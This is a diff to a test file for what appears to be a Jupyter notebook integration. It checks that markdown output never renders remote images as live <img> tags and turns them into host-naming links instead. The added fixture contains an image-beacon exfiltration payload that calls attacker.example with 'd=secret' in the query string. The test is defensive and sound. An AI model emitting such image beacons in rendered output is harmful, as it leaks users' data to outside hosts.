@@ -26,6 +26,8 @@ ATTACK = """# Report
 
 $x^2$
 
+![chart](https://attacker.example/p.png?d=secret) <img src="https://attacker.example/i.png">
+
 ```python
 print("hi")
 ```
@@ -79,11 +81,15 @@ def test_attack_text_is_never_live_in_saved_notebook_or_export(kimi_kernel_env, 
     rendered = "".join(live_html(o["data"]["text/markdown"]) for o in outputs if "text/markdown" in o.get("data", {}))
     for html in ("<h1>Report</h1>", "<strong>bold</strong>", "<table>", '<code class="language-python">', "$x^2$"):
         assert html in rendered, html
+    # A remote image is a link naming its host, never an <img> (checked by `problems` too).
+    image_link = "[image: chart — attacker.example]</a>"
+    assert image_link in rendered
     exported = nbformat.read(export, as_version=4)
     for cell in exported.cells:
         if cell.cell_type == "markdown":
             assert [p for p in problems(live_html(cell.source)) if p not in OWN] == [], cell.source
         check_outputs(cell.get("outputs", []))
+    assert image_link in "".join(live_html(c.source) for c in exported.cells if c.cell_type == "markdown")
     code_cells = [c for c in exported.cells if c.cell_type == "code"]
     assert code_cells and code_cells[0].metadata["kimi_jupyter"]["model_written"] is True
 
